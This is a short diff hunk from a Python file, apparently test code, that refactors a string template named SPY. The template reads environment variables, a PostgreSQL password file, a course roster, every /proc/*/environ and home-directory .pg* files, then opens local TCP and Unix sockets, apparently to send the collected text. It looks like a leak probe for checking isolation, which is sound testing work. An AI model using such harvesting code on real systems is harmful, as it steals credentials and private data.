@@ -179,7 +179,8 @@ def read_by_hand(url: str) -> dict[str, tuple]:
 SPY = """
 import glob, os, pathlib, socket
 texts = [repr(dict(os.environ))]
-for path in [{pgpass!r}, "course_roster.py", *glob.glob("/proc/*/environ"), *glob.glob("/home/*/.pg*")]:
+paths = [*glob.glob("/proc/*/environ"), *glob.glob("/home/*/.pg*")]
+for path in [{pgpass!r}, "course_roster.py", *paths]:
     try: texts.append(open(path, errors="replace").read())
     except OSError: pass
 for kind, address in [(socket.AF_INET, ("127.0.0.1", {port})), (socket.AF_UNIX, {path!r})]:
